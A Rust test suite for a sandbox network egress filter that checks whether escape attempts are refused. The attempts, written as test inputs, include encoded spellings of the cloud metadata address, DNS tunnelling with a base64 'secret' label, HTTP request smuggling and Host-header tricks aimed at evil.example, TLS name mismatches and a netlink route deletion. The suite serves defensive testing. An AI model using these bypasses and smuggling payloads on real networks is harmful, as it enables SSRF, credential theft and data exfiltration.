//! Attempts on a filtered network: addresses in other spellings, names that carry messages, and
//! requests that say one thing to the proxy and another to the server (EG-1 to EG-6).
//!
//! Nothing here needs a network, and nothing leaves the machine: all of it is refused.

use zareba_egress::{Limits, Policy, Rule};
use zareba_runtime_native::{NativeRuntime, Reachable, Walls};

use super::{Prison, WALLS};
use crate::fixture::{self, Fixture, spec};

/// The one name that may be looked up; nobody has it.
const ALLOWED: &str = "allowed.example";

/// Everything that a rule by address can open without naming what is closed to all others.
const WHOLE_INTERNET: [&str; 2] = ["0.0.0.0/0", "[::]/0"];

fn filtered(allow: &[&str]) -> Fixture<NativeRuntime> {
    let rules = allow.iter().map(|rule| Rule::parse(rule).unwrap());
    let policy = Policy::new(rules.collect(), Vec::new(), Limits::default()).unwrap();
    fixture::native_with(Walls {
        network: Reachable::Listed(policy),
        ..WALLS
    })
}

async fn behind_rules(allow: &[&str]) -> Prison {
    Prison::of(filtered(allow), spec()).await
}

/// What programs make of addresses and names, and what comes back.
const TOOLS: &str = r"
def exchange(host, port, request):
    found = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
    with socket.socket(found[0], found[1]) as stream:
        stream.settimeout(30)
        stream.connect(found[4])
        stream.sendall(request)
        answer = b''
        while part := stream.recv(4096):
            answer += part
        return answer.decode()
def get(host, name=None, port=80):
    return exchange(host, port, ('GET / HTTP/1.1\r\nHost: %s\r\n\r\n' % (name or host)).encode())
def resolver():
    lines = read('/etc/resolv.conf').decode().splitlines()
    return next(line.split()[1] for line in lines if line.startswith('nameserver ') and '.' in line)
def ask(name, record, server=None):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    question = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', record, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server_socket:
        server_socket.settimeout(30)
        server_socket.connect((server or resolver(), 53))
        server_socket.send(question)
        answer = server_socket.recv(4096)
    return 'code %d, %d answers' % (answer[3] & 15, struct.unpack('>H', answer[6:8])[0])
def greet(host, name):
    import ssl
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return exchange(host, 443, outgoing.read()) or 'closed'
";

impl Prison {
    /// What an expression with those tools comes to.
    async fn online(&self, expression: &str) -> String {
        let program = format!("{TOOLS}print(attempt(lambda: {expression}))");
        self.python(&program).await
    }

    /// A request that the proxy refuses, for this reason.
    async fn is_denied(&self, expression: &str, reason: &str) {
        let answer = self.online(expression).await;
        assert!(
            answer.starts_with("worked: HTTP/1.1 403 "),
            "{expression}: {answer}"
        );
        assert!(answer.contains("egress_denied"), "{expression}: {answer}");
        assert!(answer.contains(reason), "{expression}: {answer}");
    }
}

/// An address that stays closed, whatever is allowed beside it and however it is written.
macro_rules! closed_addresses {
    ($($name:ident: $spelling:literal as $host:literal;)*) => {$(
        #[tokio::test]
        async fn $name() {
            let expression = format!("get('{}', '{}')", $spelling, $host);
            for rules in [&[ALLOWED][..], &WHOLE_INTERNET] {
                let prison = behind_rules(rules).await;
                prison.is_denied(&expression, "native.allow").await;
                prison.end().await;
            }
        }
    )*};
}

closed_addresses! {
    the_metadata_address_is_closed_eg_6: "169.254.169.254" as "169.254.169.254";
    the_metadata_address_is_closed_as_one_number_eg_2: "2852039166" as "2852039166";
    the_metadata_address_is_closed_in_hexadecimal_eg_2: "0xA9FEA9FE" as "0xA9FEA9FE";
    the_metadata_address_is_closed_in_octal_eg_2: "0251.0376.0251.0376" as "0251.0376.0251.0376";
    the_metadata_address_is_closed_in_two_parts_eg_2: "169.16689662" as "169.16689662";
    the_metadata_address_is_closed_mapped_into_ipv6_eg_2:
        "::ffff:169.254.169.254" as "[::ffff:169.254.169.254]";
    the_metadata_address_is_closed_translated_to_ipv6_eg_2:
        "64:ff9b::a9fe:a9fe" as "[64:ff9b::a9fe:a9fe]";
    the_metadata_address_is_closed_by_6to4_eg_2: "2002:a9fe:a9fe::" as "[2002:a9fe:a9fe::]";
    the_metadata_address_of_ipv6_is_closed_eg_6: "fd00:ec2::254" as "[fd00:ec2::254]";
    the_loopback_of_the_machine_is_closed_eg_6: "127.0.0.1" as "127.0.0.1";
    the_loopback_of_the_machine_is_closed_in_short_eg_2: "127.1" as "127.1";
    the_loopback_of_ipv6_is_closed_eg_6: "::1" as "[::1]";
    a_private_address_of_class_a_is_closed_eg_6: "10.0.0.1" as "10.0.0.1";
    a_private_address_of_class_b_is_closed_eg_6: "172.16.0.1" as "172.16.0.1";
    a_private_address_of_class_c_is_closed_eg_6: "192.168.1.1" as "192.168.1.1";
    an_address_of_a_carrier_is_closed_eg_6: "100.64.0.1" as "100.64.0.1";
    a_unique_local_address_is_closed_eg_6: "fd12:3456::1" as "[fd12:3456::1]";
}

/// The address that this machine has for others is nobody's but its own.
#[tokio::test]
async fn the_machine_itself_is_closed_eg_6() {
    // Connecting a datagram socket sends nothing; it only chooses a way.
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let own = match probe.connect("192.0.2.1:9") {
        Ok(()) => probe.local_addr().unwrap().ip(),
        // A machine without a network has no such address, and its loopback stands for it.
        Err(_) => std::net::Ipv4Addr::LOCALHOST.into(),
    };
    let prison = behind_rules(&WHOLE_INTERNET).await;
    prison
        .is_denied(&format!("get('{own}')"), "native.allow")
        .await;
    prison.end().await;
}

#[tokio::test]
async fn names_that_stand_for_the_metadata_address_do_not_exist_eg_5() {
    let prison = behind_rules(&[ALLOWED]).await;
    for name in [
        "169.254.169.254.nip.example",
        "metadata.google.internal",
        "instance-data",
    ] {
        let looked_up = prison.online(&format!("ask('{name}', 1)")).await;
        assert_eq!(looked_up, "worked: code 3, 0 answers", "{name}");
    }
    prison.end().await;
}

/// The name says where, and the address is another one.
#[tokio::test]
async fn an_allowed_name_does_not_open_an_address_that_it_does_not_have_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let reason = "was not resolved to 93.184.216.34";
    let expression = format!("get('93.184.216.34', '{ALLOWED}')");
    prison.is_denied(&expression, reason).await;
    let metadata = format!("get('169.254.169.254', '{ALLOWED}')");
    prison.is_denied(&metadata, "169.254.169.254").await;
    prison.end().await;
}

#[tokio::test]
async fn a_message_in_the_name_of_a_lookup_does_not_leave_eg_5() {
    let prison = behind_rules(&[ALLOWED]).await;
    for record in [1, 28, 16, 15, 5, 10, 255] {
        let name = "c2VjcmV0.tunnel.example.com";
        let looked_up = prison.online(&format!("ask('{name}', {record})")).await;
        assert_eq!(looked_up, "worked: code 3, 0 answers", "type {record}");
    }
    prison.end().await;
}

#[tokio::test]
async fn a_message_below_an_allowed_name_does_not_leave_eg_3() {
    let prison = behind_rules(&[ALLOWED]).await;
    let looked_up = prison
        .online(&format!("ask('c2VjcmV0.{ALLOWED}', 16)"))
        .await;
    assert_eq!(looked_up, "worked: code 3, 0 answers");
    prison.end().await;
}

#[tokio::test]
async fn an_allowed_name_has_addresses_and_nothing_else_eg_5() {
    let prison = behind_rules(&[ALLOWED]).await;
    for record in [16, 15, 10, 255] {
        let looked_up = prison.online(&format!("ask('{ALLOWED}', {record})")).await;
        assert_eq!(looked_up, "worked: code 0, 0 answers", "type {record}");
    }
    prison.end().await;
}

#[tokio::test]
async fn a_name_server_of_ones_own_choice_is_not_there_eg_5() {
    for rules in [&[ALLOWED][..], &WHOLE_INTERNET] {
        let prison = behind_rules(rules).await;
        let looked_up = prison
            .online("ask('tunnel.example.com', 16, '8.8.8.8')")
            .await;
        assert_eq!(looked_up, "ECONNREFUSED");
        prison.end().await;
    }
}

#[tokio::test]
async fn a_request_with_two_hosts_is_refused_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let expression = format!("get('93.184.216.34', '{ALLOWED}\\r\\nHost: evil.example')");
    prison.is_denied(&expression, "exactly one host").await;
    prison.end().await;
}

#[tokio::test]
async fn a_target_that_is_not_the_host_is_refused_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let expression = format!(
        "exchange('93.184.216.34', 80, b'GET http://evil.example/ HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n')"
    );
    prison.is_denied(&expression, "disagree").await;
    prison.end().await;
}

#[tokio::test]
async fn a_host_with_another_port_is_refused_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let expression = format!("get('93.184.216.34', '{ALLOWED}:22')");
    prison.is_denied(&expression, "another port").await;
    prison.end().await;
}

#[tokio::test]
async fn a_tunnel_through_the_proxy_is_refused_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let expression = format!(
        "exchange('93.184.216.34', 80, b'CONNECT {ALLOWED}:443 HTTP/1.1\\r\\nHost: {ALLOWED}:443\\r\\n\\r\\n')"
    );
    prison.is_denied(&expression, "CONNECT").await;
    prison.end().await;
}

#[tokio::test]
async fn a_second_request_hidden_in_the_first_is_refused_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let expression = format!(
        "exchange('93.184.216.34', 80, b'POST / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nContent-Length: 5\\r\\n\
         Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')"
    );
    prison
        .is_denied(&expression, "malformed or ambiguous")
        .await;
    prison.end().await;
}

#[tokio::test]
async fn tls_for_a_name_that_is_not_allowed_is_cut_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let greeted = prison
        .online("greet('93.184.216.34', 'evil.example')")
        .await;
    assert_eq!(greeted, "ECONNRESET");
    prison.end().await;
}

/// The name in the greeting is allowed; the address is somebody else's.
#[tokio::test]
async fn tls_for_an_allowed_name_at_another_address_is_cut_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    let greeted = prison
        .online(&format!("greet('93.184.216.34', '{ALLOWED}')"))
        .await;
    assert_eq!(greeted, "ECONNRESET");
    prison.end().await;
}

/// The host is in plain text, on the port of TLS, and neither of the two may be trusted.
#[tokio::test]
async fn plain_text_on_the_port_of_tls_is_judged_all_the_same_eg_4() {
    let prison = behind_rules(&[ALLOWED]).await;
    prison
        .is_denied("get('93.184.216.34', 'evil.example', 443)", "evil.example")
        .await;
    prison.end().await;
}

#[tokio::test]
async fn a_port_without_a_rule_is_closed_eg_1() {
    let prison = behind_rules(&[ALLOWED]).await;
    let connected = prison.online("exchange('93.184.216.34', 22, b'')").await;
    assert_eq!(connected, "ECONNREFUSED");
    prison.end().await;
}

#[tokio::test]
async fn datagrams_other_than_lookups_go_nowhere_eg_1() {
    let prison = behind_rules(&WHOLE_INTERNET).await;
    let program = r"
quic = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
quic.settimeout(30)
quic.connect(('93.184.216.34', 443))
quic.send(b'secret')
print(attempt(lambda: quic.recv(1)))";
    assert_eq!(prison.python(program).await, "ECONNREFUSED");
    prison.end().await;
}

/// The way from all addresses to the proxy is a route, which a capability would be needed for.
#[tokio::test]
async fn the_way_to_the_proxy_cannot_be_removed_ns_8() {
    // RTM_DELROUTE of what is local to interface 1; the answer carries an errno.
    const PROGRAM: &str = r"
link = socket.socket(16, socket.SOCK_RAW, 0)
request = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 0, 0, 2, 0)
link.send(struct.pack('=IHHII', 16 + len(request), 25, 5, 1, 0) + request)
print(errno.errorcode[-struct.unpack_from('=i', link.recv(4096), 16)[0]])";
    let prison = behind_rules(&[ALLOWED]).await;
    assert_eq!(prison.python(PROGRAM).await, "EPERM");
    prison
        .is_denied("get('93.184.216.34')", "93.184.216.34")
        .await;
    prison.end().await;
}

#[tokio::test]
async fn without_a_network_no_address_can_be_reached_eg_1() {
    let prison = Prison::new().await;
    for address in [
        "169.254.169.254",
        "10.0.0.1",
        "93.184.216.34",
        "fd00:ec2::254",
        "2001:db8::1",
    ] {
        let connected = prison.online(&format!("get('{address}')")).await;
        assert_eq!(connected, "ENETUNREACH", "{address}");
    }
    prison.end().await;
}
